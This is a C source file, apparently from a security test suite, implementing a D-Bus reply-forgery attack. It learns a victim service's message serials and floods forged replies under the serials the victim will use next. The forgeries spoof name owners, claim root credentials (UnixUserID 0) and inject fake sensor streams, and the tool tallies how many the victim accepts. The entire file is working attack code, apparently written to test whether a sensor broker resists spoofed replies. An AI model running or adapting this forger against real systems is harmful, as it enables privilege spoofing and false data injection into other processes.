#include "attacker.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

/*
 * Answers calls that others were asked: under each of the serials that the victim will use next, before the true answer
 * can come, and under those that it has just used, after it.
 */
struct forger {
    struct peer peer;
    const struct options *options;
    /* The victim's unique name. */
    char victim[64];
    char object[256];
    uint64_t before;
    uint64_t after;
    uint64_t errors;
    uint64_t believed;
    uint64_t rounds;
    uint32_t random;
};

enum {
    /* Serials that are answered in one round, before the truth and after it. */
    AHEAD = 12,
    BEHIND = 8,
};

enum forged { OWNER, CREDENTIALS, USER, STREAM, NOTHING, CLAIM, OBJECT, YES, ERROR, ALL_KINDS };

static uint32_t next_random(struct forger *forger) {
    forger->random = forger->random * 1664525 + 1013904223;
    return forger->random >> 16;
}

static void append_credentials(DBusMessageIter *arguments) {
    const dbus_uint32_t user = 0, process = 1;
    DBusMessageIter options;
    enough(dbus_message_iter_open_container(arguments, DBUS_TYPE_ARRAY, "{sv}", &options));
    append_option(&options, "UnixUserID", DBUS_TYPE_UINT32, &user);
    append_option(&options, "ProcessID", DBUS_TYPE_UINT32, &process);
    enough(dbus_message_iter_close_container(arguments, &options));
}

static void append_claim(DBusMessageIter *arguments) {
    const double rate = 5000;
    const dbus_uint64_t latency = 0, sequence = 0;
    DBusMessageIter options;
    enough(dbus_message_iter_open_container(arguments, DBUS_TYPE_ARRAY, "{sv}", &options));
    append_option(&options, "rate", DBUS_TYPE_DOUBLE, &rate);
    append_option(&options, "batch-latency", DBUS_TYPE_UINT64, &latency);
    append_option(&options, "sequence", DBUS_TYPE_UINT64, &sequence);
    enough(dbus_message_iter_close_container(arguments, &options));
}

/* The end of a stream whose samples are shakes of 5 g; the other end of it stays open until we end. */
static int forged_stream(void) {
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, pair) < 0) return -1;
    struct timespec now;
    clock_gettime(CLOCK_BOOTTIME, &now);
    uint64_t time = (uint64_t)now.tv_sec * 1000000 + (uint64_t)now.tv_nsec / 1000;
    for (uint64_t row = 0; row < 20; row++) {
        struct {
            uint32_t kind, count;
            uint64_t sequence, time;
            double values[3];
        } packet = {.kind = 1, .count = 1, .sequence = row, .time = time + row * 10000, .values = {5, 5, 5}};
        if (send(pair[1], &packet, sizeof packet, MSG_DONTWAIT | MSG_NOSIGNAL) < 0) break;
    }
    return pair[0];
}

static DBusMessage *new_forgery(struct forger *forger, enum forged kind, uint32_t serial) {
    static const char *const errors[] = {
        "org.freedesktop.DBus.Error.NameHasNoOwner", "org.freedesktop.DBus.Error.ServiceUnknown",
        "org.freedesktop.DBus.Error.UnknownMethod", "org.freedesktop.DBus.Error.NoReply",
        "org.freedesktop.DBus.Error.AccessDenied",
    };
    DBusMessage *message =
        dbus_message_new(kind == ERROR ? DBUS_MESSAGE_TYPE_ERROR : DBUS_MESSAGE_TYPE_METHOD_RETURN);
    enough(message != NULL);
    enough(dbus_message_set_reply_serial(message, serial));
    enough(dbus_message_set_destination(message, forger->victim));
    dbus_message_set_no_reply(message, TRUE);
    DBusMessageIter arguments;
    dbus_message_iter_init_append(message, &arguments);
    const char *text = kind == OBJECT ? "/org/example/Forged" : forger->peer.unique;
    const dbus_uint32_t user = 0;
    const dbus_bool_t yes = TRUE;
    switch (kind) {
    case OWNER:
        enough(dbus_message_iter_append_basic(&arguments, DBUS_TYPE_STRING, &text));
        break;
    case CREDENTIALS:
        append_credentials(&arguments);
        break;
    case USER:
        enough(dbus_message_iter_append_basic(&arguments, DBUS_TYPE_UINT32, &user));
        break;
    case STREAM: {
        int stream = forged_stream();
        if (stream < 0) break;
        enough(dbus_message_iter_append_basic(&arguments, DBUS_TYPE_UNIX_FD, &stream));
        append_claim(&arguments);
        forger->peer.descriptor = stream;
        forger->peer.descriptor_from = forger->peer.out.count;
        break;
    }
    case CLAIM:
        append_claim(&arguments);
        break;
    case OBJECT:
        enough(dbus_message_iter_append_basic(&arguments, DBUS_TYPE_OBJECT_PATH, &text));
        append_claim(&arguments);
        break;
    case YES:
        enough(dbus_message_iter_append_basic(&arguments, DBUS_TYPE_BOOLEAN, &yes));
        break;
    case ERROR:
        enough(dbus_message_set_error_name(message, errors[next_random(forger) % 5]));
        break;
    case NOTHING:
    case ALL_KINDS:
        break;
    }
    return message;
}

static void forge(struct forger *forger, enum forged kind, uint32_t serial) {
    if (serial == 0) return;
    if (kind == ERROR) forger->errors++;
    peer_queue(&forger->peer, new_forgery(forger, kind, serial));
    if (kind == STREAM) forger->peer.descriptor_to = forger->peer.out.count;
}

static enum forged any_kind(struct forger *forger) {
    enum forged kind;
    /* A descriptor costs the system more than a forgery is worth: only where streams are asked for. */
    do kind = next_random(forger) % ALL_KINDS;
    while (kind == STREAM);
    /* Half of all are errors. */
    return next_random(forger) % 2 == 0 ? ERROR : kind;
}

/* Puts a call at the front of the queue that makes the victim ask others; its serial, or 0 when there is none. */
static uint32_t provoke(struct forger *forger) {
    const char *kind = forger->options->kind;
    if (strcmp(kind, "register") == 0) return peer_queue(&forger->peer, new_register(forger->options->app));
    if (strcmp(kind, "claim") == 0) return peer_queue(&forger->peer, new_claim(1000));
    if (strcmp(kind, "detector") != 0) return 0;
    /* One more pace, and one less: the broker wants another stream each time. */
    if (forger->rounds % 2 == 1) return peer_queue(&forger->peer, new_remove_detector(forger->object, 1));
    uint64_t every = 20000 + forger->rounds % 10 * 5000;
    return peer_queue(&forger->peer, new_add_detectors(forger->object, 1, 1, 20, every, 0));
}

/* What no honest answer to this peer could be. */
static bool is_won(const struct forger *forger, DBusMessage *answer) {
    if (dbus_message_get_type(answer) != DBUS_MESSAGE_TYPE_METHOD_RETURN) return false;
    if (strcmp(forger->options->kind, "register") == 0) return true;
    if (strcmp(forger->options->kind, "claim") != 0) return false;
    DBusMessageIter arguments, entries, entry, variant;
    if (!dbus_message_has_signature(answer, "a{sv}")) return false;
    dbus_message_iter_init(answer, &arguments);
    for (dbus_message_iter_recurse(&arguments, &entries);
         dbus_message_iter_get_arg_type(&entries) == DBUS_TYPE_DICT_ENTRY; dbus_message_iter_next(&entries)) {
        const char *key;
        double rate;
        dbus_message_iter_recurse(&entries, &entry);
        dbus_message_iter_get_basic(&entry, &key);
        dbus_message_iter_next(&entry);
        dbus_message_iter_recurse(&entry, &variant);
        if (strcmp(key, "rate") != 0 || dbus_message_iter_get_arg_type(&variant) != DBUS_TYPE_DOUBLE) continue;
        dbus_message_iter_get_basic(&variant, &rate);
        return rate > 200.5;
    }
    return false;
}

/* What the victim's last message was numbered, and who it is. */
static uint32_t learn(struct forger *forger, const char *name) {
    DBusMessage *answer = peer_answer(
        &forger->peer, peer_queue(&forger->peer, new_call(name, "/", DBUS_INTERFACE_PEER, "Ping")), 30000000);
    if (answer == NULL) die("%s answers no Ping", name);
    snprintf(forger->victim, sizeof forger->victim, "%s", dbus_message_get_sender(answer));
    uint32_t serial = dbus_message_get_serial(answer);
    dbus_message_unref(answer);
    return serial;
}

static void run_round(struct forger *forger) {
    uint32_t last = learn(forger, forger->options->to);
    uint32_t call = provoke(forger);
    /* What is asked at a Register, one after the other, somewhere among the next serials. */
    uint32_t start = 1 + (uint32_t)(forger->rounds % 4);
    bool streams = strcmp(forger->options->kind, "detector") == 0;
    for (uint32_t ahead = 1; ahead <= AHEAD; ahead++) {
        uint32_t place = ahead - start;
        enum forged kind = any_kind(forger);
        if (forger->rounds % 3 != 2 && ahead >= start) {
            kind = streams ? (place == 0 ? STREAM : ERROR) : place < 2 ? OWNER : place == 2 ? CREDENTIALS : kind;
        }
        forge(forger, kind, last + ahead);
    }
    forger->before += AHEAD;
    int stream = forger->peer.descriptor;
    if (!peer_write(&forger->peer)) die("the bus closed the connection");
    if (stream >= 0) close(stream);
    if (call != 0) {
        DBusMessage *answer = peer_answer(&forger->peer, call, 30000000);
        if (answer == NULL) die("no answer from %s", forger->options->to);
        if (is_won(forger, answer)) forger->believed++;
        dbus_message_unref(answer);
    }
    last = learn(forger, forger->options->to);
    for (uint32_t behind = 0; behind < BEHIND && behind < last; behind++) {
        forge(forger, any_kind(forger), last - behind);
        forger->after++;
    }
    forger->rounds++;
}

int run_forge(const struct options *options) {
    static struct forger forger;
    if (options->to == NULL) die("forge needs --to NAME");
    forger.options = options;
    forger.random = 1;
    peer_open(&forger.peer, options->bus);
    if (strcmp(options->kind, "register") == 0 && options->app == NULL) die("forge register needs --app ID");
    if (strcmp(options->kind, "detector") == 0) register_nameless(&forger.peer, forger.object, sizeof forger.object);
    printf("%s\n", forger.peer.unique);
    fflush(stdout);
    uint64_t deadline = now_us() + options->seconds * 1000000;
    while (forger.before + forger.after < options->count && now_us() < deadline) run_round(&forger);
    /* Whatever was sent before has arrived when this is answered. */
    learn(&forger, options->to);
    printf("{\"rounds\":%llu,\"before\":%llu,\"after\":%llu,\"errors\":%llu,\"believed\":%llu}\n",
           (unsigned long long)forger.rounds, (unsigned long long)forger.before, (unsigned long long)forger.after,
           (unsigned long long)forger.errors, (unsigned long long)forger.believed);
    return forger.before + forger.after >= options->count ? 0 : 1;
}
